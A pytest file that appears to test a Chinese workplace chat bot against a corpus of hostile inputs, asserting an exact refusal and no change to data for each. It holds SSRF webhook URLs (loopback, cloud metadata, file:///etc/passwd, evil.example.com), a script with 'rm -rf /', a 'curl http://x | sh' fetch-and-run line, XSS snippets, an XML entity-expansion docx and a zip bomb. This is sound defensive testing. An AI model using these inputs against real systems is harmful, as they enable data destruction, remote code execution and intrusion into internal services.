"""The hostile-input corpus (issue 11): every case through the real bot and the sandbox.

Each row is one input an attacker or a careless user could send — a webhook URL, an evidence
file, a table to /import, a caption, a command, callback data — with the exact Chinese refusal
the bot must give. For every row the test also asserts that no database row and no stored file
changed. The files are made here, by the tests themselves.
"""

from __future__ import annotations

import asyncio
import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from docx import Document as DocxDocument
from openpyxl import Workbook
from PIL import Image
from sqlalchemy import create_engine, inspect, text

from bot.sandbox import BotApiSandbox
from handlers.deps import SERVICES_KEY
from knowledge.files import ImportLimits
from tests.test_e2e_report import PDF, setup_unit_group
from tests.test_e2e_report import Chat as ReportChat

ADMIN = BotApiSandbox.user(1001, "张三")
STAFF = BotApiSandbox.user(3003, "王五")
STRANGER = BotApiSandbox.user(5005, "陌生人")
GROUP = BotApiSandbox.group_chat(-100_321, "法规科工作群")
ADMIN_CHAT = BotApiSandbox.private_chat(ADMIN)
STRANGER_CHAT = BotApiSandbox.private_chat(STRANGER)
ACCEPTED = "可上传：PDF、Word、Excel、WPS、OFD、图片（JPG/PNG/HEIC）、TXT、ZIP"
WEBHOOK_USAGE = "用法：/webhook wecom|dingtalk|feishu https://… [签名密钥]，或 /webhook off"
SECRET = "SECxyz-do-not-echo"


def unsupported(detected: str) -> str:
    return f"不支持的文件类型（检测到：{detected}）。{ACCEPTED}"


def noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def png_with_bad_crc() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    data[29] ^= 0xFF  # inside the IHDR chunk: its CRC no longer matches
    return bytes(data)


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "GIF")
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_with_bad_crc() -> bytes:
    data = bytearray(zip_of({"word/document.xml": b"<w:document/>" * 10}, zipfile.ZIP_STORED))
    data[data.index(b"<w:document/>")] = ord("X")
    return bytes(data)


def broken_heic() -> bytes:
    ftyp = struct.pack(">I4s4sI", 24, b"ftyp", b"heic", 0) + b"mif1heic"
    return ftyp + struct.pack(">I4s", 4000, b"meta") + b"\x00" * 40  # the meta box claims more than there is


def xlsx(fill: Callable[[Any], None]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    fill(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


HEADER = ["序号", "三级指标", "上报资料", "牵头单位"]


def table(rows: int) -> Callable[[Any], None]:
    def fill(sheet: Any) -> None:
        sheet.append(HEADER)
        for number in range(1, rows + 1):
            sheet.append([number, f"第{number}项工作", "情况说明", "法规科"])

    return fill


def with_formula(sheet: Any) -> None:
    table(3)(sheet)
    sheet["B3"] = '=CONCAT(B2,"补充")'  # openpyxl writes no cached value
    sheet["D4"] = "=D2"


def wide(sheet: Any) -> None:
    table(2)(sheet)
    sheet.cell(row=3, column=100, value="藏在第100列")


def long_cell(sheet: Any) -> None:
    table(2)(sheet)
    sheet["B3"] = "长" * 10_001


def declared_million_rows() -> bytes:
    """A tiny xlsx whose <dimension> claims A1:XFD1048576 and whose last row is row 1,048,576."""
    data = xlsx(lambda sheet: sheet.append(["随便"]))
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    sheet = entries["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    sheet = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>尾</t></is></c></row></sheetData>'
    )
    entries["xl/worksheets/sheet1.xml"] = sheet.encode()
    return zip_of(entries)


def docx(fill: Callable[[Any], None] | None = None) -> bytes:
    document = DocxDocument()
    document.add_paragraph("某局指标表")
    if fill:
        fill(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_replacing(part: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx()))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    entries[part] = content
    return zip_of(entries)


def docx_wide(document: Any) -> None:
    grid = document.add_table(rows=2, cols=12)
    for cell, text_ in zip(
        grid.rows[0].cells, ["序号", "三级指标", "牵头单位"] + [f"列{i}" for i in range(9)], strict=True
    ):
        cell.text = text_


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NO_BODY = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W_NS}/>'.encode()
ENTITIES = (
    f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    f"<w:document {W_NS}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
).encode()
BIG_PART = (  # 2.2 MB of paragraphs that do not compress well (not a zip bomb, just big)
    f"<w:document {W_NS}><w:body>".encode()
    + b"".join(b"<w:p><w:r><w:t>" + noise(32, n).hex().encode() + b"</w:t></w:r></w:p>" for n in range(25_000))
    + b"</w:body></w:document>"
)
BOMB = zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})


# ---------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Case:
    """One hostile input and the exact refusal."""

    name: str
    kind: str  # webhook | evidence | import | command
    payload: Any
    expected: str
    user: str = "admin"  # admin | staff | stranger
    file_name: str = ""
    declared_size: int | None = None
    chat: str = ""  # group | admin | stranger; by default the group (webhook, evidence) or the admin's chat
    limits: ImportLimits | None = None
    robot_hosts: tuple[str, ...] | None = None


WEBHOOKS = [
    Case(
        "literal IPv4 loopback",
        "webhook",
        "https://127.0.0.1/cgi-bin/webhook/send?key=k",
        "机器人地址不能是 IP 地址，请使用机器人的域名地址",
    ),
    Case(
        "cloud metadata address",
        "webhook",
        "https://169.254.169.254/latest/meta-data/",
        "机器人地址不能是 IP 地址，请使用机器人的域名地址",
    ),
    Case("literal IPv6 loopback", "webhook", "https://[::1]/send", "机器人地址不能是 IP 地址，请使用机器人的域名地址"),
    Case(
        "private network address",
        "webhook",
        "https://10.0.0.8/send",
        "机器人地址不能是 IP 地址，请使用机器人的域名地址",
    ),
    Case(
        "plain http",
        "webhook",
        "http://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=k",
        "机器人地址必须以 https:// 开头",
    ),
    Case("file scheme", "webhook", "file:///etc/passwd", "机器人地址必须以 https:// 开头"),
    Case("gopher scheme", "webhook", "gopher://qyapi.weixin.qq.com:70/_x", "机器人地址必须以 https:// 开头"),
    Case(
        "unknown host",
        "webhook",
        "https://evil.example.com/send",
        "不接受的机器人地址：evil.example.com（只接受 qyapi.weixin.qq.com、oapi.dingtalk.com、open.feishu.cn、open.larksuite.com）",
    ),
    Case(
        "allowed name as a prefix",
        "webhook",
        "https://qyapi.weixin.qq.com.evil.com/send",
        "不接受的机器人地址：qyapi.weixin.qq.com.evil.com（只接受 qyapi.weixin.qq.com、oapi.dingtalk.com、open.feishu.cn、open.larksuite.com）",
    ),
    Case(
        "credentials in the URL",
        "webhook",
        "https://user:pw@qyapi.weixin.qq.com/send",
        "机器人地址不能包含用户名或密码",
    ),
    Case("unusual port", "webhook", "https://oapi.dingtalk.com:8443/robot/send", "机器人地址不能指定端口"),
    Case(
        "decimal IP as a name",
        "webhook",
        "https://2130706433/send",
        "不接受的机器人地址：2130706433（只接受 qyapi.weixin.qq.com、oapi.dingtalk.com、open.feishu.cn、open.larksuite.com）",
    ),
    Case(
        "hex IP as a name",
        "webhook",
        "https://0x7f000001/send",
        "不接受的机器人地址：0x7f000001（只接受 qyapi.weixin.qq.com、oapi.dingtalk.com、open.feishu.cn、open.larksuite.com）",
    ),
    Case("no host", "webhook", "https:///send", "机器人地址格式不对，请复制群机器人设置里的完整 https:// 地址"),
    Case(
        "allow-listed name resolving to loopback",
        "webhook",
        "https://localhost/send",
        "机器人地址 localhost 指向内网或保留地址，已拒绝",
        robot_hosts=("localhost",),
    ),
]

EVIDENCE = [
    Case(
        "HTML page named .pdf",
        "evidence",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        unsupported("HTML 网页"),
        file_name="通知.pdf",
    ),
    Case(
        "SVG named .png",
        "evidence",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        unsupported("SVG 矢量图"),
        file_name="照片.png",
    ),
    Case(
        "shell script named .docx",
        "evidence",
        b"#!/bin/sh\nrm -rf /\n",
        unsupported("脚本（#!/bin/sh）"),
        file_name="总结.docx",
    ),
    Case(
        "script without shebang named .docx",
        "evidence",
        b"curl http://x | sh\n",
        unsupported("纯文本，不是 DOCX 文件"),
        file_name="总结.docx",
    ),
    Case(
        "random bytes named .ofd",
        "evidence",
        noise(4096, 1),
        unsupported("无法识别的二进制数据"),
        file_name="电子公文.ofd",
    ),
    Case(
        "random bytes named .heic",
        "evidence",
        noise(4096, 2),
        unsupported("无法识别的二进制数据"),
        file_name="现场.heic",
    ),
    Case(
        "random bytes named .wps", "evidence", noise(4096, 3), unsupported("无法识别的二进制数据"), file_name="方案.wps"
    ),
    Case(
        "random bytes named .txt", "evidence", noise(4096, 4), unsupported("无法识别的二进制数据"), file_name="说明.txt"
    ),
    Case(
        "text with NUL bytes",
        "evidence",
        b"\xe6\x83\x85\xe5\x86\xb5\x00\x00\x01",
        unsupported("无法识别的二进制数据"),
        file_name="情况.txt",
    ),
    Case(
        "XML named .ofd", "evidence", b'<?xml version="1.0"?><ofd:OFD/>', unsupported("XML 文本"), file_name="公文.ofd"
    ),
    Case(
        "PDF cut off before %%EOF",
        "evidence",
        PDF[:-7] + b"x" * 2100,
        "PDF 文件不完整（缺少结尾标记 %%EOF），请重新导出后发送",
        file_name="扫描件.pdf",
    ),
    Case(
        "OLE header on junk",
        "evidence",
        bytes.fromhex("D0CF11E0A1B11AE1") + noise(600, 5),
        unsupported("损坏的 OLE 复合文档"),
        file_name="旧版.doc",
    ),
    Case(
        "zip with a bad checksum",
        "evidence",
        zip_with_bad_crc(),
        unsupported("损坏的 ZIP 压缩包"),
        file_name="材料.docx",
    ),
    Case(
        "zip header on junk",
        "evidence",
        b"PK\x03\x04" + noise(300, 6),
        unsupported("损坏的 ZIP 压缩包"),
        file_name="材料.zip",
    ),
    Case(
        "JPEG header on zeros",
        "evidence",
        bytes.fromhex("FFD8FFE000104A464946") + b"\x00" * 64,
        unsupported("损坏的图片"),
        file_name="现场.jpg",
    ),
    Case(
        "PNG with a bad chunk checksum", "evidence", png_with_bad_crc(), unsupported("损坏的图片"), file_name="现场.png"
    ),
    Case(
        "HEIC boxes that do not add up",
        "evidence",
        broken_heic(),
        unsupported("损坏的 HEIC 图片"),
        file_name="现场.heic",
    ),
    Case(
        "ELF program named .pdf",
        "evidence",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        unsupported("可执行程序（ELF）"),
        file_name="报告.pdf",
    ),
    Case(
        "Windows program named .doc",
        "evidence",
        b"MZ\x90\x00" + b"\x00" * 200,
        unsupported("Windows 可执行程序"),
        file_name="报告.doc",
    ),
    Case("GIF named .png", "evidence", gif(), unsupported("GIF（image/gif）"), file_name="动图.png"),
    Case(
        "truncated download",
        "evidence",
        PDF,
        f"文件“完整版.pdf”下载不完整（收到 {len(PDF)} 字节，应为 {len(PDF) + 500} 字节），未保存，请重新发送",
        file_name="完整版.pdf",
        declared_size=len(PDF) + 500,
    ),
    Case("empty file", "evidence", b"", "文件是空的（0 字节），请重新发送", file_name="空.pdf"),
]

IMPORTS = [
    Case(
        "xlsx declaring 1,048,576 rows",
        "import",
        declared_million_rows(),
        "导入失败：文件“百万行.xlsx”工作表“Sheet”第1048576行XFD列超过列数上限 64 列，未导入\n数据库未做任何改动。",
        file_name="百万行.xlsx",
    ),
    Case(
        "xlsx over the row cap",
        "import",
        xlsx(table(60)),
        "导入失败：文件“长表.xlsx”超过行数上限 50 行（工作表“Sheet”第51行），未导入\n数据库未做任何改动。",
        file_name="长表.xlsx",
        limits=ImportLimits(max_rows=50),
    ),
    Case(
        "xlsx with a cell in column 100",
        "import",
        xlsx(wide),
        "导入失败：文件“宽表.xlsx”工作表“Sheet”第3行CV列超过列数上限 64 列，未导入\n数据库未做任何改动。",
        file_name="宽表.xlsx",
    ),
    Case(
        "xlsx cell over the length cap",
        "import",
        xlsx(long_cell),
        "导入失败：文件“长格.xlsx”工作表“Sheet”第3行B列的内容超过单元格长度上限 10000 字，未导入\n数据库未做任何改动。",
        file_name="长格.xlsx",
    ),
    Case(
        "xlsx over the total text cap",
        "import",
        xlsx(table(40)),
        "导入失败：文件“字多.xlsx”的文字总量超过上限 300 字，未导入\n数据库未做任何改动。",
        file_name="字多.xlsx",
        limits=ImportLimits(max_text_chars=300),
    ),
    Case(
        "xlsx formulas without cached values",
        "import",
        xlsx(with_formula),
        "导入失败：文件“公式.xlsx”有公式单元格没有计算结果（工作表“Sheet”B3、工作表“Sheet”D4），无法如实读取；请在 Excel/WPS 中打开并保存后再导入\n数据库未做任何改动。",
        file_name="公式.xlsx",
    ),
    Case(
        "xlsx zip bomb",
        "import",
        BOMB,
        "导入失败：文件“炸弹.xlsx”解压后过大，疑似压缩炸弹，已拒绝\n数据库未做任何改动。",
        file_name="炸弹.xlsx",
    ),
    Case(
        "docx without a body",
        "import",
        docx_replacing("word/document.xml", NO_BODY),
        "导入失败：文件“无正文.docx”没有正文（document.xml 中缺少 body），不是有效的 Word 文件\n数据库未做任何改动。",
        file_name="无正文.docx",
    ),
    Case(
        "docx without document.xml",
        "import",
        zip_of({"[Content_Types].xml": b"<Types/>"}),
        "导入失败：文件“空壳.docx”没有正文（缺少 word/document.xml），不是有效的 Word 文件\n数据库未做任何改动。",
        file_name="空壳.docx",
    ),
    Case(
        "docx with DTD entities",
        "import",
        docx_replacing("word/document.xml", ENTITIES),
        "导入失败：文件“实体.docx”含有不安全的 XML（DTD/实体），已拒绝\n数据库未做任何改动。",
        file_name="实体.docx",
    ),
    Case(
        "docx part over the size cap",
        "import",
        docx_replacing("word/document.xml", BIG_PART),
        "导入失败：文件“大正文.docx”中的 word/document.xml 过大（2 MB，上限 1 MB），未导入\n数据库未做任何改动。",
        file_name="大正文.docx",
        limits=ImportLimits(max_part_mb=1),
    ),
    Case(
        "docx table over the column cap",
        "import",
        docx(docx_wide),
        "导入失败：文件“宽表.docx”表格1第1行超过列数上限 10 列，未导入\n数据库未做任何改动。",
        file_name="宽表.docx",
        limits=ImportLimits(max_columns=10),
    ),
    Case(
        "corrupt xlsx",
        "import",
        b"PK\x03\x04 junk",
        "导入失败：文件“坏.xlsx”已损坏，或不是有效的 Office 文件（.docx/.xlsx）\n数据库未做任何改动。",
        file_name="坏.xlsx",
    ),
    Case(
        "PDF sent as a table",
        "import",
        PDF,
        "导入失败：不支持的文件类型“.pdf”（支持 .txt、.docx、.xlsx）\n数据库未做任何改动。",
        file_name="表.pdf",
    ),
    Case("truncated table download", "import", xlsx(table(3)), "", file_name="截断.xlsx", declared_size=-1),
    Case(
        "import by a stranger",
        "import",
        xlsx(table(3)),
        "只有本项目的协调人或管理员可以导入指标表。",
        file_name="表.xlsx",
        user="stranger",
        chat="stranger",
    ),
]

COMMANDS = [
    Case("webhook without arguments", "command", "/webhook", WEBHOOK_USAGE, chat="group"),
    Case(
        "webhook of an unknown kind", "command", "/webhook slack https://hooks.slack.com/x", WEBHOOK_USAGE, chat="group"
    ),
    Case(
        "webhook by a member",
        "command",
        "/webhook wecom https://qyapi.weixin.qq.com/x",
        "只有本项目的协调人或管理员可以设置群机器人。",
        user="staff",
        chat="group",
    ),
    Case(
        "import without a file",
        "command",
        "/import",
        "请把指标表文件（.docx、.xlsx 或 .txt）作为附件发送，并在文件说明里写 /import。",
        chat="admin",
    ),
    Case(
        "file captioned with a negative number",
        "caption",
        b"%PDF",
        "如要作为佐证材料，请重新发送并在文件说明里写 #指标编号，例如：#31 情况说明",
        user="stranger",
        chat="stranger",
        file_name="x.pdf",
    ),
]


def test_the_corpus_holds_at_least_fifty_inputs() -> None:
    cases = WEBHOOKS + EVIDENCE + IMPORTS + COMMANDS
    assert len(cases) >= 50
    assert len({c.name for c in cases}) == len(cases)


# ---------------------------------------------------------------- helpers


def snapshot(db_url: str, files: Path) -> tuple[dict[str, list[tuple[Any, ...]]], list[tuple[str, int]]]:
    """Every row of every table (except the update inbox and claims) and every stored file."""
    engine = create_engine(db_url)
    try:
        with engine.connect() as connection:
            tables = [
                t for t in inspect(connection).get_table_names() if t not in {"inbox_updates", "processed_updates"}
            ]
            rows = {t: [tuple(r) for r in connection.execute(text(f'SELECT * FROM "{t}" ORDER BY 1'))] for t in tables}
    finally:
        engine.dispose()
    stored = sorted(
        (str(p.relative_to(files)), p.stat().st_size) for p in files.rglob("*") if p.is_file() and "tmp" not in p.parts
    )
    return rows, stored


def set_limits(app: object, case: Case) -> None:
    services = app.bot_data[SERVICES_KEY]  # type: ignore[attr-defined]
    base = getattr(services, "_corpus_config", None)
    if base is None:
        base = services._corpus_config = services.config
    changes: dict[str, Any] = {}
    if case.limits is not None:
        changes["import_limits"] = case.limits
    if case.robot_hosts is not None:
        changes["robot_hosts"] = case.robot_hosts
    services.config = replace(base, **changes)


async def send(sandbox: BotApiSandbox, case: Case) -> tuple[int, str]:
    """Send the case's input; returns (chat id, reply text)."""
    chats = {"group": GROUP, "admin": ADMIN_CHAT, "stranger": STRANGER_CHAT}
    chat = chats[case.chat or ("group" if case.kind in {"webhook", "evidence"} else "admin")]
    user = {"admin": ADMIN, "staff": STAFF, "stranger": STRANGER}[case.user]
    before = len(sandbox.messages_to(chat["id"]))
    if case.kind == "webhook":
        sandbox.send_text(chat, user, f"/webhook wecom {case.payload} {SECRET}")
    elif case.kind in {"command"}:
        sandbox.send_text(chat, user, case.payload)
    else:
        caption = {"evidence": "#12 情况说明", "import": "/import", "caption": "#-3 情况说明"}[case.kind]
        declared = case.declared_size
        if declared == -1:
            declared = len(case.payload) + 100
        sandbox.send_document(chat, user, case.payload, case.file_name, caption=caption, declared_size=declared)
    [reply] = await asyncio.to_thread(sandbox.wait_for_messages, chat["id"], 1, after=before)
    return chat["id"], reply.text


@pytest.fixture
async def hostile_bot(sandbox: BotApiSandbox, seeded_bot: object) -> object:
    await setup_unit_group(ReportChat(sandbox))
    return seeded_bot


@pytest.mark.parametrize("group", ["webhooks", "evidence", "imports", "commands"])
async def test_each_hostile_input_is_refused_and_changes_nothing(
    group: str, sandbox: BotApiSandbox, hostile_bot: object, seeded_copy_url: str, tmp_path: Path
) -> None:
    cases = {"webhooks": WEBHOOKS, "evidence": EVIDENCE, "imports": IMPORTS, "commands": COMMANDS}[group]
    files = tmp_path / "files"
    for case in cases:
        set_limits(hostile_bot, case)
        before = snapshot(seeded_copy_url, files)
        deleted = len(sandbox.deleted)
        chat_id, reply = await send(sandbox, case)
        expected = f"未设置群机器人：{case.expected}" if case.kind == "webhook" else case.expected
        if case.declared_size == -1:
            size = len(case.payload)
            expected = f"文件“{case.file_name}”下载不完整（收到 {size} 字节，应为 {size + 100} 字节），请重新发送。"
        assert reply == expected, case.name
        assert SECRET not in reply, case.name
        assert snapshot(seeded_copy_url, files) == before, case.name
        if case.kind == "webhook":  # the message carrying the URL and secret is gone from the group
            assert len(sandbox.deleted) == deleted + 1 and sandbox.deleted[-1][0] == chat_id, case.name


async def test_a_hostile_import_does_not_stall_other_users(sandbox: BotApiSandbox, seeded_bot: object) -> None:
    """While a 30 000-row table is parsed (and refused) in the worker, another user's /ask is answered."""
    import time

    asker = BotApiSandbox.user(6006, "提问人")
    asker_chat = BotApiSandbox.private_chat(asker)
    sandbox.send_document(ADMIN_CHAT, ADMIN, xlsx(table(30_000)), "长表.xlsx", caption="/import")
    await asyncio.sleep(0.3)  # the import has started: its worker process is being spawned
    started = time.monotonic()
    sandbox.send_text(asker_chat, asker, "/ask 执法记录仪")
    [answer] = await asyncio.to_thread(sandbox.wait_for_messages, asker_chat["id"], 1)
    answered = time.monotonic() - started
    [refusal] = await asyncio.to_thread(sandbox.wait_for_messages, ADMIN_CHAT["id"], 1, timeout=60)
    assert "执法记录仪" in answer.text
    assert answered < 2.0, f"/ask took {answered:.2f} s during the import"
    assert answer.sent_at < refusal.sent_at  # answered while the import was still being parsed
    assert (
        refusal.text
        == "导入失败：文件“长表.xlsx”超过行数上限 25000 行（工作表“Sheet”第25001行），未导入\n数据库未做任何改动。"
    )
